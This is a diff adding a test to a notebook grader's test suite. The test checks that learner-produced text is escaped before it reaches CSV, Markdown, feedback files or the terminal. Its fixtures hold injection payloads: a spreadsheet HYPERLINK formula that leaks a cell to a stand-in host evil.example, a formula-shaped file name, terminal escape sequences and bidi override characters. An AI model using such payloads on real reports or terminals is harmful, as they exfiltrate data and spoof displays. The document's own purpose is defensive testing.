@@ -5,6 +5,7 @@ Each notebook runs in its own kernel (a few seconds each), so the slow tests gra
 
 import csv
 import json
+import re
 import shutil
 import tempfile
 import time
@@ -523,3 +524,61 @@ def test_a_notebook_of_an_odd_shape_is_a_row_of_its_own_and_the_class_is_graded(
                for row in odd_rows.values()), odd_rows
     assert sum(int(row["score"]) for row in by_exercise(rows, good).values()) == FULL_MARKS
     assert "Traceback" not in capsys.readouterr().out
+
+
+HOSTILE_TEXT = {  # exercise: (status, a message as the learner's code can make one: an exception, a Got: value)
+    "3.1": ("failed", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
+    "3.2": ("error", "Got: \x1b]0;owned\x07\x9b2J\x1b[1m bold \u202eevil\x00\rover\nnext | cell <img src=x>"),
+    "3.3": ("error", "@SUM(1+1)\tby the grader\x1b[2J"),
+}
+UNSAFE_CHARACTERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def test_learner_text_reaches_no_report_as_a_formula_or_a_terminal_escape(course, tmp_path, monkeypatch, capsys):
+    """Old grader: `=HYPERLINK(` landed in grades.csv as a formula, and ESC, BEL and \\x9b landed as they are in
+    grades.csv, grades.md, the feedback and (for a grader problem) the terminal; a `|` split a Markdown row."""
+
+    def hostile_run(plan, options=None, lang=None):
+        run = _all_steps_pass(plan)
+        for exercise_id, (status, message) in HOSTILE_TEXT.items():
+            run.outcomes[plan.exercise_steps[exercise_id][0]] = grading.Outcome(
+                grading.Status(status), message, grader_fault=exercise_id == "3.3")
+        return run
+
+    monkeypatch.setattr(grading.grader, "run_cells", hostile_run)
+    monkeypatch.chdir(tmp_path)  # relative names, so that a file name can start a cell
+    escaped_name = "03_\x1b[2J\x07name.ipynb"
+    shutil.copy(course / "solutions" / TOY_NAME, escaped_name)
+    Path("=HYPERLINK(0).ipynb").write_text(json.dumps(nbformat.v4.new_notebook()))  # matches no solution
+    out = tmp_path / "grades.csv"
+    assert main(["grade", escaped_name, "=HYPERLINK(0).ipynb", "--out", str(out), "--solutions",
+                 str(course / "solutions")]) == 1  # 3.3's outcome is a grader fault
+    said = capsys.readouterr().out
+    assert "grader problem in 03_\\x1b[2J\\x07name.ipynb: @SUM(1+1)\\tby the grader" in said, said
+    assert not UNSAFE_CHARACTERS.search(said)
+
+    rows = read_csv(out)
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-"
+               for row in rows for value in row.values()), rows
+    (unknown,) = [row for row in rows if "HYPERLINK(0)" in row["notebook"]]
+    assert unknown["notebook"] == "'=HYPERLINK(0).ipynb" and unknown["exercise"] == "-"
+    assert unknown["message"].startswith("no solution notebook matches =HYPERLINK(0).ipynb")
+    mine = {row["exercise"]: row for row in rows if row["notebook"] == "03_\\x1b[2J\\x07name.ipynb"}
+    assert mine["3.1"]["message"] == "'" + HOSTILE_TEXT["3.1"][1]
+    # a CR ends a line of the one-line message, as a newline does
+    assert mine["3.2"]["message"] == ("Got: \\x1b]0;owned\\x07\\x9b2J bold \\u202eevil\\x00 | over | next | cell "
+                                      "<img src=x>")
+    assert mine["3.3"]["message"] == "'@SUM(1+1)\tby the grader"
+
+    reports = {path: path.read_text(encoding="utf-8") for path in [out, out.with_suffix(".md"),
+                                                                    *tmp_path.glob("grades_feedback/*.md")]}
+    assert len(reports) == 4
+    for path, text in reports.items():
+        assert not UNSAFE_CHARACTERS.search(text), (path, UNSAFE_CHARACTERS.findall(text))
+    summary = reports[out.with_suffix(".md")]
+    assert "\t" not in summary
+    (row_3_2,) = [line for line in summary.splitlines() if "owned" in line]
+    assert row_3_2.count(" | ") == 6, "seven cells: the learner's `|` is escaped, its newline too"
+    assert "\\\\x1b]0;owned" in row_3_2 and "next \\| cell \\<img src=x>" in row_3_2
+    feedback = next(text for path, text in reports.items() if "name" in path.name and path.parent != tmp_path)
+    assert "\\x1b]0;owned\\x07\\x9b2J bold \\u202eevil\\x00\\rover\nnext | cell" in feedback
